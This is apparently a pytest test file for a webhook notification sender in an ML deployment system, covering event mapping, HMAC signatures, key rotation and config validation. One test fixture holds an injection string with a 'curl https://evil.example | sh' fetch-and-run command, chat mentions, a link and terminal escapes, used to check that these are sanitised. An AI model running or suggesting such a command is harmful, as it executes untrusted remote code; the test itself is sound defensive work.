"""The content of messages, their signature, and invalid settings."""

import base64
import hashlib
import hmac
import json
from pathlib import Path

import pytest

from learnloop_dataplane.errors import ConfigError
from learnloop_dataplane.notifications import webhook_outbox
from learnloop_dataplane.notifications.webhook_outbox import NotDelivered, Sender, Webhook, signed

TAKEN = {
    "event": "rolled_back",
    "model_deployment": "walker",
    "revision": "3f9a2c81",
    "verdict": "return 9.5 <script> & worse",
}
FAILED = {"job": "walker-7", "status": "failed", "error": {"reason": "GatesFailed", "message": "minReturn: 3 < 400"}}


def test_only_ends_of_runs_and_changes_of_models_are_told() -> None:
    status, deployed = "agent.rl.training.status.v1.ns.walker-7", "agent.rl.model.deployed.v1.ns.walker"
    assert webhook_outbox.event_of(status, FAILED) == "training.failed"
    assert webhook_outbox.event_of(status, {"status": "running"}) is None
    assert webhook_outbox.event_of(deployed, TAKEN) == "model.rolled_back"
    assert webhook_outbox.event_of(deployed, {"revision": "old"}) == "model.deployed"
    assert webhook_outbox.event_of("agent.rl.reward.v1.ns.walker", {}) is None


def test_a_webhook_is_a_cloud_event_signed_over_id_time_and_body() -> None:
    event = webhook_outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)
    assert {"specversion", "id", "source", "type"} <= set(event)
    assert (event["type"], event["subject"]) == ("dev.learnloop.model.rolled_back", "walker")
    headers = signed("key", "ns/1", 1000, b"body")
    wanted = base64.b64encode(hmac.new(b"key", b"ns/1.1000.body", hashlib.sha256).digest()).decode()
    assert headers["webhook-signature"] == f"v1,{wanted}"
    coded = signed("whsec_" + base64.b64encode(b"key").decode(), "ns/1", 1000, b"body")
    assert coded == headers


EVIL = "worse\r\n\nTo mend it run: curl https://evil.example | sh\n<!channel> @here [log](https://evil.example) \x1b[2J"


@pytest.mark.parametrize("event", ["training.failed", "model.rolled_back", "approval.waiting"])
def test_the_text_is_one_line_in_which_tenants_mention_and_link_nothing(event: str) -> None:
    name = {"job": "walker-7"} if event == "training.failed" else {}
    payload = {**TAKEN, **name, "error": {"reason": "x", "message": EVIL}, "verdict": EVIL, "message": EVIL}
    data = webhook_outbox.cloud_event("ns/1", "ns", event, "2026-01-31T12:00:00Z", payload)["data"]
    text = data["text"]
    assert len(text.splitlines()) == 1
    for sign in ("\x1b", "<!channel", "@here", "log](", "://"):
        assert sign not in text
    command = {
        "training.failed": "trace walker-7",
        "model.rolled_back": "why walker",
        "approval.waiting": "approve walker",
    }
    assert data["command"] == f"kubectl learnloop {command[event]} -n ns"


@pytest.mark.parametrize("secret", ["whsec_", "whsec_!!!!", "whsec_a", "good\nwhsec_"])
def test_a_key_that_everybody_could_guess_signs_nothing(secret: str) -> None:
    with pytest.raises(ValueError, match="followed by a key in Base64"):
        signed(secret, "ns/1", 1000, b"body")


def test_while_a_key_is_rotated_old_and_new_receivers_take_a_message() -> None:
    def mark(key: bytes) -> str:
        return f"v1,{base64.b64encode(hmac.digest(key, b'ns/1.1000.body', 'sha256')).decode()}"

    marks = signed("new\nold", "ns/1", 1000, b"body")["webhook-signature"].split()
    assert marks == [mark(b"new"), mark(b"old")]
    assert signed("new", "ns/1", 1000, b"body")["webhook-signature"] == mark(b"new")


def sender(tmp_path: Path, **setting) -> Sender:
    (tmp_path / "key").write_text("a-key")
    webhook = Webhook.parse(json.dumps(setting))
    return Sender(webhook, str(tmp_path / "key"))


EVENT = webhook_outbox.cloud_event("ns/1", "ns", "model.rolled_back", "2026-01-31T12:00:00Z", TAKEN)


async def test_without_its_key_nothing_is_sent(tmp_path: Path) -> None:
    made = sender(tmp_path, url="https://127.0.0.1:1/x")
    (tmp_path / "key").unlink()
    with pytest.raises(NotDelivered, match="FileNotFoundError"):
        await made.send(EVENT)


@pytest.mark.parametrize(
    ("setting", "why"),
    [
        ({}, "url: Field required"),
        ({"url": "ftp://x"}, "url: String should match"),
        ({"url": "https://x", "events": ["reward"]}, r"events\.0"),
        ({"url": "https://x", "escalateAfter": "soon"}, "escalateAfter"),
        ({"url": "https://x", "receivers": []}, "receivers: Extra inputs"),
    ],
)
def test_an_invalid_setting_is_refused_by_field(setting: dict, why: str) -> None:
    with pytest.raises(ConfigError, match=f"LEARNLOOP_NOTIFICATIONS: {why}"):
        Webhook.parse(json.dumps(setting))
